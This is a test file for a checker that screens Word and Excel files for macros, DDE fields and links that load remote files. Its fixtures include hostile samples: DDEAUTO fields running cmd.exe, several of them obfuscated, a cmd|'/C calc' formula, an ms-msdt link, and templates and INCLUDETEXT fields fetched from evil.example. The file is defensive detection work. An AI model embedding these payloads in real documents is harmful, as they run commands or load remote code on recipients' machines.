import { describe, expect, it } from "vitest";
import { compound, docx, inEnglish, xlsx, type ZipPart } from "../../testing/documents.ts";
import { checkCompoundDocument, checkPackagedDocument, type DocumentType } from "./office-documents.ts";

const word: DocumentType = { mediaType: "", container: "package", program: "word" };
const excel: DocumentType = { mediaType: "", container: "package", program: "excel" };
const rels = (attributes: string, name = "word/_rels/settings.xml.rels"): ZipPart => ({
  name,
  data: `<?xml version="1.0"?><Relationships><Relationship Id="r1" ${attributes}/></Relationships>`,
});
const body = (inner: string | Buffer, name = "word/footer9.xml"): ZipPart => ({ name, data: inner });
const type = (name: string) =>
  `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}"`;
const fields = (...runs: string[]) =>
  `<w:p>${runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join("")}</w:p>`;
const record = (kind: number, data: number[]) =>
  Buffer.from([kind & 0xff, kind >> 8, data.length & 0xff, data.length >> 8, ...data]);

describe("a document that reaches beyond itself", () => {
  it.each<[string, DocumentType, Buffer, RegExp]>([
    [
      "a macro project under another name",
      word,
      docx([body(compound(["VBA", "dir"]), "word/image1.png")]),
      /macros/,
    ],
    [
      "a relationship to a macro project",
      word,
      docx([rels('Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.png"')]),
      /macros/,
    ],
    [
      "content types of a macro document",
      word,
      docx([
        body(
          '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
          "a.xml",
        ),
      ]),
      /macros/,
    ],
    ["a sheet of Excel 4 macros", excel, xlsx([body("<x/>", "xl/macrosheets/sheet1.xml")]), /macros/],
    [
      "a relationship to such a sheet elsewhere",
      excel,
      xlsx([
        rels(
          'Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="worksheets/a.xml"',
        ),
      ]),
      /macros/,
    ],
    [
      "a template elsewhere",
      word,
      docx([rels(`${type("attachedTemplate")} Target="http://evil.example/a.dotm" TargetMode="External"`)]),
      /loads other files/,
    ],
    [
      "a template elsewhere, with a sign that ends tags in its id",
      word,
      docx([rels(`x="a>b" ${type("attachedTemplate")} TargetMode='External' Target='http://evil.example'`)]),
      /loads other files/,
    ],
    [
      "a link that is no web address",
      word,
      docx([rels(`${type("hyperlink")} Target="ms-msdt:/id" TargetMode="External"`)]),
      /loads other files/,
    ],
    [
      "a picture elsewhere",
      word,
      docx([rels(`${type("image")} Target="https://evil.example/a.png" TargetMode="External"`)]),
      /loads other files/,
    ],
    ["a DDE field", word, docx([body(fields(" DDEAUTO c:\\\\windows\\\\cmd.exe "))]), /DDE/],
    ["a DDE field cut into runs", word, docx([body(fields(" DD", "EAU", "TO cmd "))]), /DDE/],
    ["a DDE field in references", word, docx([body(fields(" &#68;&#x44;E cmd "))]), /DDE/],
    ["a DDE field in CDATA", word, docx([body(fields("<![CDATA[ DDE cmd ]]>"))]), /DDE/],
    [
      "a DDE field in UTF-16",
      word,
      docx([body(Buffer.from(`\ufeff${fields(" DDE cmd ")}`, "utf16le"))]),
      /DDE/,
    ],
    ["a DDE field in letters by number", word, docx([body(fields(" QUOTE 68 68 69 65 85 84 79 "))]), /DDE/],
    [
      "a simple DDE field",
      word,
      docx([body('<x:fldSimple x:y="1" instr="DDEAUTO cmd"/>'.replace("instr", " instr"))]),
      /DDE/,
    ],
    [
      "a field that loads a file",
      word,
      docx([body(fields(' INCLUDETEXT "http://evil.example/a" '))]),
      /loads other files/,
    ],
    [
      "a DDE link of a workbook",
      excel,
      xlsx([
        body(
          '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
          "xl/externalLinks/externalLink1.xml",
        ),
      ]),
      /DDE/,
    ],
    [
      "a formula that asks a program",
      excel,
      xlsx([body("<worksheet><c><f>cmd|'/C calc'!A0</f></c></worksheet>", "xl/worksheets/sheet1.xml")]),
      /DDE/,
    ],
    [
      "a workbook elsewhere",
      excel,
      xlsx([rels(`${type("externalLinkPath")} Target="file:///a.xlsx" TargetMode="External"`)]),
      /loads other files/,
    ],
  ])("is refused with a sentence: %s", async (_what, kind, data, says) => {
    expect(inEnglish(await checkPackagedDocument(data, kind))).toMatch(says);
  });

  it.each<[string, DocumentType, Buffer, RegExp]>([
    ["macros whose storage is written otherwise", word, compound(["WordDocument", "MACROS"]), /macros/],
    [
      "a sheet of Excel 4 macros",
      excel,
      compound(["Workbook"], record(0x85, [0, 0, 0, 0, 2, 1, 1, 0, 65])),
      /macros/,
    ],
    ["a link to a program", excel, compound(["Workbook"], record(0x1ae, [1, 0, 5, 0, 0, 99, 3, 97])), /DDE/],
    ["a DDE field", word, compound(["WordDocument"], Buffer.from("\x13 DDEAUTO cmd \x15", "latin1")), /DDE/],
    [
      "a DDE field in two bytes a letter",
      word,
      compound(["WordDocument"], Buffer.from("a\x13 DDE cmd \x15", "utf16le")),
      /DDE/,
    ],
  ])("from before 2007 likewise: %s", async (_what, kind, data, says) => {
    expect(inEnglish(await checkCompoundDocument(data, { ...kind, container: "compound" }))).toMatch(says);
  });
});

describe("a document that does not", () => {
  it.each<[string, DocumentType, Buffer]>([
    [
      "links to the web and to mailboxes",
      word,
      docx([
        rels(`${type("hyperlink")} Target="https://farm.example" TargetMode="External"`),
        rels(`${type("hyperlink")} Target="mailto:a@farm.example" TargetMode="External"`, "a.rels"),
      ]),
    ],
    [
      "usual fields",
      word,
      docx([body(fields(" PAGE ", ' HYPERLINK "https://farm.example" ', ' TOC \\o "1-3" ', " DATE "))]),
    ],
    ["words that only look like it", word, docx([body("<w:t>Our DDE and LINK prices | cmd|'/c'!A0</w:t>")])],
    [
      "formulas with a bar between quotes",
      excel,
      xlsx([body('<worksheet><f>A1&amp;"a|b"&amp;Sheet2!B1</f></worksheet>', "xl/worksheets/sheet1.xml")]),
    ],
    [
      "a workbook of its own",
      excel,
      xlsx([body("<worksheet><f>SUM('My prices'!A1:A9)</f></worksheet>", "xl/worksheets/sheet1.xml")]),
    ],
  ])("is taken: %s", async (_what, kind, data) => {
    expect(await checkPackagedDocument(data, kind)).toBeUndefined();
  });

  it("is taken from before 2007, too", async () => {
    const book = compound(["Workbook"], record(0x85, [0, 0, 0, 0, 0, 0, 1, 0, 65]));
    expect(await checkCompoundDocument(book, { ...excel, container: "compound" })).toBeUndefined();
  });

  it("is looked through in time, however it is written", async () => {
    for (const piece of ["<f><![CDATA[", '<f a="', "<Relationship x=", "<w:instrText ", "a|'", "aaaaaaaa"])
      await checkPackagedDocument(xlsx([body(`<x>${piece.repeat(500_000)}`, "xl/a.xml")]), excel);
  });
});
